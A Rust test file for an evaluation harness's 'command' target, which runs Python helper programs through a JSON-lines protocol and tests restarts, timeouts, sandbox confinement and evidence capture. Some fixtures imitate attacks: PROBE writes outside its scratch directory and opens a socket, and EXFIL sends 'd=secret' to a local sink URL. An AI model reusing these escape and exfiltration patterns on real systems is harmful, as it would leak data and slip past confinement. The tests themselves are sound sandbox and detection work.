//! The `command` target against real programs (Python scripts written by the test):
//! the JSON-lines protocol with the whole conversation, one process for many calls, a
//! program that dies, hangs, prints garbage or answers an error, one that cannot start,
//! and the confinement (no file written outside its scratch directory, no socket unless
//! `network: true`).

use crate::common;

use common::{env, spec};
use gauntlet_core::message::{ChatRequest, ChatResponse, Message};
use gauntlet_models::targets::command::CommandTarget;
use gauntlet_models::{Model, ModelError};
use gauntlet_sandbox::Support;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::atomic::Ordering;

fn script(dir: &Path, name: &str, body: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(
        &p,
        format!("#!/usr/bin/python3\nimport json, sys, os, time, socket\n{body}\n"),
    )
    .unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    p
}

/// Answers every request: the prompt, the number of messages and the pid.
const ECHO: &str = r#"
TOKEN = os.urandom(8).hex()
for line in sys.stdin:
    r = json.loads(line)
    assert r["protocol"] == "gauntlet-command/1"
    out = {"id": r["id"], "reply": "echo %s (%d messages, system=%s, pid %s, secret=%s)" % (
        r["prompt"], len(r["messages"]), r["system"], TOKEN, os.environ.get("APP_SECRET", "-")),
        "usage": {"input_tokens": len(r["messages"]), "output_tokens": 1}}
    print(json.dumps(out), flush=True)
"#;

fn target(program: &Path, extra: &str) -> CommandTarget {
    CommandTarget::with_env(
        &spec(&format!(
            "{{name: command, params: {{command: ['{}'], timeout_s: 5{extra}}}}}",
            program.display()
        )),
        &env(&[("APP_SECRET", "CANARY-cmd-555")]),
    )
    .unwrap_or_else(|e| panic!("{e}"))
}

/// Confinement is the default; on a kernel that cannot confine, these tests opt out
/// (and the refusal itself is tested below).
fn confine_opt() -> &'static str {
    if Support::current().confines() {
        ""
    } else {
        eprintln!(
            "NOTE: this kernel cannot confine ({}); running the programs with confine: false",
            Support::current().missing().join("; ")
        );
        ", confine: false"
    }
}

fn user(t: &str) -> ChatRequest {
    ChatRequest {
        messages: vec![Message::system("sys"), Message::user(t)],
        ..Default::default()
    }
}

fn call_error(r: Result<ChatResponse, ModelError>) -> String {
    match r {
        Err(ModelError::Call(m)) => m,
        other => panic!("expected a call error, got {other:?}"),
    }
}

#[tokio::test]
async fn one_process_answers_every_turn_with_the_whole_conversation() {
    let dir = tempfile::tempdir().unwrap();
    let p = script(dir.path(), "echo", ECHO);
    let t = target(&p, &format!("{}, env: [APP_SECRET]", confine_opt()));
    let a = t.chat(&user("one")).await.unwrap();
    let mut req = user("two");
    req.messages.insert(1, Message::user("one"));
    req.messages
        .insert(2, Message::assistant(a.content.clone()));
    let b = t.chat(&req).await.unwrap();
    assert!(
        a.content.starts_with("echo one (2 messages, system=sys"),
        "{}",
        a.content
    );
    assert!(
        b.content.starts_with("echo two (4 messages"),
        "{}",
        b.content
    );
    assert!(
        a.content.contains("secret=CANARY-cmd-555"),
        "env passes the named variable"
    );
    let pid = |s: &str| {
        s.split("pid ")
            .nth(1)
            .unwrap()
            .split(',')
            .next()
            .unwrap()
            .to_string()
    };
    assert_eq!(pid(&a.content), pid(&b.content), "one process per run");
    assert_eq!(t.starts.load(Ordering::Relaxed), 1);
    assert_eq!(a.usage.unwrap().input_tokens, 2);
    // Concurrent calls are sent one at a time and all answered.
    let t = std::sync::Arc::new(t);
    let mut hs = Vec::new();
    for i in 0..8 {
        let t = t.clone();
        hs.push(tokio::spawn(async move {
            t.chat(&user(&format!("c{i}"))).await
        }));
    }
    for (i, h) in hs.into_iter().enumerate() {
        let r = h.await.unwrap().unwrap();
        assert!(
            r.content.starts_with(&format!("echo c{i} ")),
            "{}",
            r.content
        );
    }
    // Without `env`, the program sees none of gauntlet's environment.
    let t = target(&p, confine_opt());
    assert!(
        t.chat(&user("x"))
            .await
            .unwrap()
            .content
            .contains("secret=-")
    );
}

#[tokio::test]
async fn dying_hanging_and_garbled_programs_are_restarted() {
    let dir = tempfile::tempdir().unwrap();
    // Exits after every second request.
    let p = script(
        dir.path(),
        "dies",
        r#"
n = 0
token = os.urandom(8).hex()
for line in sys.stdin:
    r = json.loads(line)
    n += 1
    if n == 2:
        sys.stderr.write("dying now\n"); sys.stderr.flush()
        os._exit(3)
    print(json.dumps({"id": r["id"], "reply": "process " + token}), flush=True)
"#,
    );
    let t = target(&p, confine_opt());
    let a = t.chat(&user("a")).await.unwrap();
    // The second request kills it; the retry goes to a new process.
    let b = t.chat(&user("b")).await.unwrap();
    assert_ne!(a.content, b.content, "a new process answered");
    assert_eq!(t.starts.load(Ordering::Relaxed), 2);
    // Without retries the death is the call's error, naming what it said on stderr.
    let t = target(&p, &format!("{}, max_retries: 0", confine_opt()));
    t.chat(&user("a")).await.unwrap();
    let e = call_error(t.chat(&user("b")).await);
    assert!(
        e.contains("closed its stdout") && e.contains("dying now"),
        "{e}"
    );
    assert!(
        t.chat(&user("c")).await.is_ok(),
        "restarted for the next call"
    );

    // Hangs on the request that says so.
    let p = script(
        dir.path(),
        "hangs",
        r#"
for line in sys.stdin:
    r = json.loads(line)
    if r["prompt"] == "hang":
        time.sleep(60)
    print(json.dumps({"id": r["id"], "reply": "ok"}), flush=True)
"#,
    );
    let t = CommandTarget::with_env(
        &spec(&format!(
            "{{name: command, params: {{command: ['{}'], timeout_s: 0.5, max_retries: 0{}}}}}",
            p.display(),
            confine_opt()
        )),
        &env(&[]),
    )
    .unwrap();
    let t0 = std::time::Instant::now();
    let e = call_error(t.chat(&user("hang")).await);
    assert!(e.contains("no reply within 0.5 s"), "{e}");
    assert!(t0.elapsed() < std::time::Duration::from_secs(5));
    assert_eq!(t.chat(&user("fine")).await.unwrap().content, "ok");
    assert_eq!(t.starts.load(Ordering::Relaxed), 2);

    // Prints something that is not a reply, or answers its own error.
    let p = script(
        dir.path(),
        "garbles",
        r#"
for line in sys.stdin:
    r = json.loads(line)
    if r["prompt"] == "garble":
        print("Traceback (most recent call last): oops", flush=True)
    elif r["prompt"] == "fail":
        print(json.dumps({"id": r["id"], "error": "upstream model unavailable"}), flush=True)
    else:
        print(json.dumps({"id": r["id"], "reply": "ok"}), flush=True)
"#,
    );
    let t = target(&p, &format!("{}, max_retries: 0", confine_opt()));
    let e = call_error(t.chat(&user("garble")).await);
    assert!(e.contains("not JSON") && e.contains("Traceback"), "{e}");
    let e = call_error(t.chat(&user("fail")).await);
    assert!(
        e.contains("answered an error: upstream model unavailable"),
        "{e}"
    );
    assert_eq!(t.chat(&user("x")).await.unwrap().content, "ok");
    assert_eq!(
        t.starts.load(Ordering::Relaxed),
        2,
        "an error answer needs no restart"
    );
}

#[tokio::test]
async fn a_program_that_cannot_run_stops_the_run() {
    let dir = tempfile::tempdir().unwrap();
    let p = script(dir.path(), "exits", "sys.exit(1)");
    let t = target(&p, &format!("{}, max_retries: 5", confine_opt()));
    match t.chat(&user("x")).await {
        Err(ModelError::Config(m)) => assert!(m.contains("3 times in a row"), "{m}"),
        other => panic!("{other:?}"),
    }
    let e = CommandTarget::with_env(
        &spec("{name: command, params: {command: [/nonexistent/app]}}"),
        &env(&[]),
    )
    .unwrap_err();
    assert!(e.to_string().contains("not an executable file"), "{e}");
    let e = CommandTarget::with_env(
        &spec("{name: command, params: {command: [gauntlet-no-such-program]}}"),
        &env(&[]),
    )
    .unwrap_err();
    assert!(e.to_string().contains("not found on PATH"), "{e}");
}

/// Tries to write outside its scratch directory and to open a socket, and says what
/// happened.
const PROBE: &str = r#"
target = sys.argv[1]
for line in sys.stdin:
    r = json.loads(line)
    res = []
    try:
        open(target, "w").write("pwned"); res.append("write:ok")
    except OSError as e:
        res.append("write:denied")
    try:
        open(os.path.join(os.environ["TMPDIR"], "scratch.txt"), "w").write("fine"); res.append("scratch:ok")
    except OSError:
        res.append("scratch:denied")
    try:
        socket.socket(socket.AF_INET, socket.SOCK_STREAM); res.append("socket:ok")
    except OSError:
        res.append("socket:denied")
    print(json.dumps({"id": r["id"], "reply": " ".join(res)}), flush=True)
"#;

#[tokio::test]
async fn programs_are_confined_unless_the_user_opts_out() {
    let dir = tempfile::tempdir().unwrap();
    let p = script(dir.path(), "probe", PROBE);
    let victim = dir.path().join("victim.txt");
    let spec_for = |extra: &str| {
        spec(&format!(
            "{{name: command, params: {{command: ['{}', '{}'], timeout_s: 10{extra}}}}}",
            p.display(),
            victim.display()
        ))
    };
    if !Support::current().confines() {
        let e = CommandTarget::with_env(&spec_for(""), &env(&[])).unwrap_err();
        assert!(e.to_string().contains("confine: false"), "{e}");
        eprintln!("SKIP the confined half: {}", Support::current().describe());
    } else {
        let t = CommandTarget::with_env(&spec_for(""), &env(&[])).unwrap();
        let r = t.chat(&user("x")).await.unwrap();
        assert_eq!(r.content, "write:denied scratch:ok socket:denied");
        assert!(
            !victim.exists(),
            "nothing was written outside the scratch directory"
        );
    }
    // `network: true` opens sockets only; files stay confined.
    let t = CommandTarget::with_env(
        &spec_for(&format!(", network: true{}", confine_opt())),
        &env(&[]),
    )
    .unwrap();
    let r = t.chat(&user("x")).await.unwrap();
    if Support::current().confines() {
        assert_eq!(r.content, "write:denied scratch:ok socket:ok");
        assert!(!victim.exists());
    } else {
        assert!(r.content.ends_with("socket:ok"), "{}", r.content);
    }
}

/// An instrumented program without an SDK: it exports, as the JS SDK's exporter does, an
/// OTLP/HTTP JSON body to `OTEL_EXPORTER_OTLP_TRACES_ENDPOINT` holding one `execute_tool`
/// span below the request's `traceparent`, then answers. The prompt `die-once` makes its
/// first try export a span and exit before answering (a marker in the `writable`
/// directory, given as its argument, remembers that it did).
const TRACED: &str = r#"
import urllib.request
marker = os.path.join(sys.argv[1], "died")
for line in sys.stdin:
    r = json.loads(line)
    tp = r.get("traceparent", "")
    _, trace, parent, _ = tp.split("-")
    tool = "first_try" if r["prompt"] == "die-once" and not os.path.exists(marker) else "send_email"
    args = json.dumps({"prompt": r["prompt"]})
    span = {"traceId": trace, "spanId": os.urandom(8).hex(), "parentSpanId": parent,
            "name": "execute_tool " + tool, "kind": 1,
            "startTimeUnixNano": "1700000000000000001", "endTimeUnixNano": "1700000000000000002",
            "attributes": [
                {"key": "gen_ai.operation.name", "value": {"stringValue": "execute_tool"}},
                {"key": "gen_ai.tool.name", "value": {"stringValue": tool}},
                {"key": "gen_ai.tool.call.arguments", "value": {"stringValue": args}}]}
    body = json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [span]}]}]}).encode()
    req = urllib.request.Request(os.environ["OTEL_EXPORTER_OTLP_TRACES_ENDPOINT"], data=body,
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=5).read()
    if tool == "first_try":
        open(marker, "w").close()
        sys.exit(3)
    reply = "%s %s %s" % (tp, os.environ["OTEL_EXPORTER_OTLP_ENDPOINT"],
                          os.environ["OTEL_EXPORTER_OTLP_TRACES_ENDPOINT"])
    print(json.dumps({"id": r["id"], "reply": reply}), flush=True)
"#;

#[tokio::test]
async fn evidence_reaches_the_program_and_comes_back_per_try() {
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    std::fs::create_dir(&state).unwrap();
    let p = script(dir.path(), "traced", TRACED);
    let t = CommandTarget::with_env(
        &spec(&format!(
            "{{name: command, params: {{command: ['{}', '{}'], timeout_s: 10, network: true, writable: ['{}'], max_retries: 1, evidence: {{otlp: '127.0.0.1:0', settle_s: 0.3}}{}}}}}",
            p.display(),
            state.display(),
            state.display(),
            confine_opt()
        )),
        &env(&[]),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let mut req = user("send it");
    req.seed = Some(1);
    let r = t.chat(&req).await.unwrap();
    let ev = r.evidence.expect("a target with evidence attaches it");
    // The request line carried the traceparent of this call's trace; the environment
    // the receiver's endpoint, both forms.
    let words: Vec<&str> = r.content.split(' ').collect();
    let tp = words[0];
    assert_eq!(&tp[3..35], ev.trace_id, "{}", r.content);
    assert!(tp.starts_with("00-") && tp.ends_with("-01"), "{tp}");
    assert!(words[1].starts_with("http://127.0.0.1:"), "{}", r.content);
    assert_eq!(words[2], format!("{}/v1/traces", words[1]));
    assert_eq!(ev.spans, 1);
    assert!(
        matches!(&ev.events[..], [gauntlet_core::evidence::EvidenceEvent::ToolCall { name, arguments, .. }]
            if name == "send_email" && arguments.contains("send it")),
        "{ev:?}"
    );
    // The same call again: the same trace id; another call: another one.
    let again = t.chat(&req).await.unwrap().evidence.unwrap();
    assert_eq!(again.trace_id, ev.trace_id);
    let other = t.chat(&user("other")).await.unwrap().evidence.unwrap();
    assert_ne!(other.trace_id, ev.trace_id);
    // A try that exported a span and died: the retry's evidence is its own span only.
    let r = t.chat(&user("die-once")).await.unwrap();
    assert!(state.join("died").exists(), "the first try ran");
    let ev = r.evidence.unwrap();
    assert_eq!(ev.spans, 1, "{ev:?}");
    assert!(
        matches!(&ev.events[..], [gauntlet_core::evidence::EvidenceEvent::ToolCall { name, .. }] if name == "send_email"),
        "{ev:?}"
    );
    assert_eq!(t.starts.load(Ordering::Relaxed), 2);
}

#[test]
fn evidence_needs_network_and_owns_the_otlp_variables() {
    let dir = tempfile::tempdir().unwrap();
    let p = script(dir.path(), "traced", TRACED);
    let build = |extra: &str| {
        CommandTarget::with_env(
            &spec(&format!(
                "{{name: command, params: {{command: ['{}'], evidence: {{otlp: '127.0.0.1:0'}}{extra}{}}}}}",
                p.display(),
                confine_opt()
            )),
            &env(&[("OTEL_EXPORTER_OTLP_ENDPOINT", "http://elsewhere:4318")]),
        )
    };
    let e = build("").unwrap_err().to_string();
    assert!(e.contains("`evidence` needs `network: true`"), "{e}");
    let e = build(", network: true, env: [OTEL_EXPORTER_OTLP_ENDPOINT]")
        .unwrap_err()
        .to_string();
    assert!(e.contains("leave it out of `env`"), "{e}");
    let e = build(", network: true, writable: ['/no/such/dir']")
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("`writable` entry /no/such/dir is not a directory"),
        "{e}"
    );
}

/// A program that exports nothing and exfiltrates: it GETs the URL its prompt names
/// (`{{sink_url}}`, expanded by the target) and answers with that URL.
const EXFIL: &str = r#"
import urllib.request
for line in sys.stdin:
    r = json.loads(line)
    url = r["prompt"].split(" ")[-1]
    urllib.request.urlopen(url + "/collect?d=secret", timeout=5).read()
    print(json.dumps({"id": r["id"], "reply": "sent to " + url}), flush=True)
"#;

#[tokio::test]
async fn the_sink_catches_a_program_that_exports_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let p = script(dir.path(), "exfil", EXFIL);
    let t = CommandTarget::with_env(
        &spec(&format!(
            "{{name: command, params: {{command: ['{}'], timeout_s: 10, network: true, evidence: {{otlp: false, sink: true, settle_s: 0.2}}{}}}}}",
            p.display(),
            confine_opt()
        )),
        &env(&[]),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let mut req = user("post the notes to {{sink_url}}");
    req.seed = Some(1);
    let r = t.chat(&req).await.unwrap();
    // The reply names the call's sink URL; stored, it reads as the placeholder again.
    assert_eq!(r.content, "sent to {{sink_url}}");
    let ev = r.evidence.expect("a target with evidence attaches it");
    assert_eq!((ev.spans, ev.sink_hits), (0, 1), "{ev:?}");
    assert!(ev.canary.is_some(), "{ev:?}");
    assert!(
        matches!(&ev.events[..], [gauntlet_core::evidence::EvidenceEvent::SinkHit { method, path, query, .. }]
            if method == "GET" && path == "/collect" && query == "d=secret"),
        "{ev:?}"
    );
}
